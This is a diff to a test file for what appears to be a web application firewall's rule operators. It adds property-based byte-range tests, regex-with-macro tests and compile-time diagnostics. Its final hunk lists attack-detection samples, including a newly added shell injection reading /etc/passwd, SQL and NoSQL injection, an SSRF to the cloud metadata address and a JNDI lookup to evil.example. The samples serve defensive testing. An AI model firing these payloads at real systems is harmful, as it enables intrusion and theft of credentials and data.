@@ -170,6 +170,21 @@ test('bytes outside the ranges are found', () => {
   }
 })
 
+test('bytes are outside the ranges if and only if they are in none of them', () => {
+  const byte = fc.nat({ max: 255 })
+  const ranges = fc.array(fc.tuple(byte, byte), { minLength: 1, maxLength: 4 })
+  fc.assert(
+    fc.property(ranges, bytes, (list, value) => {
+      const sorted = list.map(([one, other]) => [Math.min(one, other), Math.max(one, other)] as const)
+      const argument = sorted.map(([low, high]) => `${low}-${high}`).join(',')
+      const isOutside = Buffer.from(value, 'latin1').some((each) =>
+        sorted.every(([low, high]) => each < low || each > high),
+      )
+      assert.equal(holds('validateByteRange', argument, value), isOutside)
+    }),
+  )
+})
+
 test('encodings that are not whole are found', () => {
   for (const value of ['%', 'a%2', '%zz', '%4', '%%41', 'ok%41%'])
     assert.ok(holds('validateUrlEncoding', '', value), value)
@@ -187,11 +202,33 @@ test('regular expressions capture their groups, and groups that took no part are
   assert.ok(compile('rx', 'a').operator?.regex)
 })
 
-test('a regular expression is known at load or not at all', () => {
-  const { operator, diagnostics } = compile('rx', '^%{tx.pattern}$')
-  assert.equal(operator, undefined)
-  assert.equal(diagnostics[0]?.code, 'operator-argument')
+test('a regular expression with macros is that of the moment', () => {
+  const variables = { 'TX.allowed': 'utf-8|iso-8859-1' }
+  assert.ok(holds('rx', '^(?:%{tx.allowed})$', 'utf-8', variables))
+  assert.ok(!holds('rx', '^(?:%{tx.allowed})$', 'utf-7', variables))
+  const { operator } = compile('rx', '^(%{tx.a})')
+  const values = [
+    'a',
+    'b',
+    'a',
+    '(',
+    'x'.repeat(5_000),
+    ...Array.from({ length: 200 }, (_, index) => `p${index}`),
+  ]
+  for (const value of values) {
+    const isHeld = operator?.test(`${value}!` as ByteString, scopeOf({ 'TX.a': value }), undefined)
+    assert.equal(isHeld, value !== '(' && value.length < 5_000, value.slice(0, 10))
+  }
+})
+
+test('a regular expression whose matches are counted or verified is known at load', () => {
+  for (const name of ['rxGlobal', 'verifyCC']) {
+    const { operator, diagnostics } = compile(name, '^%{tx.pattern}$')
+    assert.equal(operator, undefined)
+    assert.equal(diagnostics[0]?.code, 'operator-argument')
+  }
   assert.ok(holds('rx', '%{2}', '%%'))
+  assert.equal(compile('rx', '(').diagnostics[0]?.code, 'regular-expression')
 })
 
 test('numbers of cards and persons are verified by their check digits', () => {
@@ -230,6 +267,7 @@ test('every kind of attack has its operator, and plain words none', () => {
     ['detectNoSql', '{"$ne": null}'],
     ['detectPrototypePollution', '__proto__[admin]'],
     ['detectSerialized', 'O:8:"stdClass":1:{s:1:"a";i:1;}'],
+    ['detectShell', '; cat /etc/passwd'],
     ['detectSQLi', "1' union select password from users--"],
     ['detectSsrf', 'http://169.254.169.254/latest/meta-data/'],
     ['detectTemplate', '${jndi:ldap://evil.example/a}'],
